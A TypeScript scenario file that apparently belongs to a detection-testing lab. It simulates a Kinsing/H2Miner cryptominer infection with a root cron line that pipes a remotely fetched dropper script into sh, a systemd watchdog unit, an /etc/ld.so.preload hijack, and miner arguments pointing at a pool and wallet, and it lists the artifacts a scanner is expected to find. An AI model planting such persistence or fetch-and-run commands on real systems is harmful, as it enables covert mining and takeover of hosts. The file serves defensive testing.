import type { Scenario } from './types.js';
import { cronLine, dropper, installBinary, processArtifact, ROOT_CRONTAB, startProcess, stratum, writeFile, installUnit, WALLET } from './kit.js';
import { legitCron } from './clean.js';
import { respawnCommand } from './ddg.js';

const WATCHDOG = '/etc/kinsing';
const MINER = '/tmp/kdevtmpfsi';
const UNIT = '/lib/systemd/system/bot.service';
const PRELOAD_LIB = '/etc/libsystem.so';

/** kinsing / H2Miner: kinsing watchdog + kdevtmpfsi, cron, bot.service, ld.so.preload. */
export const kinsing: Scenario = {
  name: 'kinsing',
  plan: (ctx) => {
    const minerArgv = [MINER, '-o', stratum(ctx.pool, 14444), '-u', WALLET];
    const env = { MS_LAB_CHILD: respawnCommand(ctx.http, 'kinsing', MINER, minerArgv) };
    const cron = `* * * * * wget -q -O - ${ctx.http}/d.sh | sh > /dev/null 2>&1`;
    return {
      family: 'kinsing',
      plant: [
        ...legitCron.plant(),
        cronLine(cron),
        ...installUnit(UNIT, 'bot.service', WATCHDOG),
        installBinary('kinsing', WATCHDOG),
        installBinary('kinsing', MINER),
        // A real, do-nothing shared object: every program in the host loads it and still works.
        'install -m 644 /run/lab/bin/libsystem.so /etc/libsystem.so',
        writeFile('/etc/ld.so.preload', `${PRELOAD_LIB}\n`),
      ],
      start: [startProcess([WATCHDOG], env)],
      artifacts: [
        ...legitCron.artifacts(),
        processArtifact([WATCHDOG], 'kinsing', ctx.sha256('kinsing'), 'watchdog'),
        processArtifact(minerArgv, 'kinsing', ctx.sha256('kinsing'), 'miner', `${ctx.pool}:14444`),
        { kind: 'file', path: WATCHDOG, sha256: ctx.sha256('kinsing') },
        { kind: 'file', path: MINER, sha256: ctx.sha256('kinsing') },
        { kind: 'connection', remote: `${ctx.pool}:14444`, comm: 'kdevtmpfsi' },
        { kind: 'cron-line', path: ROOT_CRONTAB, line: cron },
        { kind: 'unit', path: UNIT, name: 'bot.service', line: `ExecStart=${WATCHDOG}` },
        { kind: 'preload', path: '/etc/ld.so.preload', line: PRELOAD_LIB },
        { kind: 'file', path: PRELOAD_LIB },
      ],
      expectFindings: true,
      respawnSeconds: 5,
      binaries: ['kinsing', 'libsystem.so'],
      www: { 'd.sh': dropper({ http: ctx.http, family: 'kinsing', path: WATCHDOG, argv: [WATCHDOG], env, comm: 'kinsing' }) },
    };
  },
};
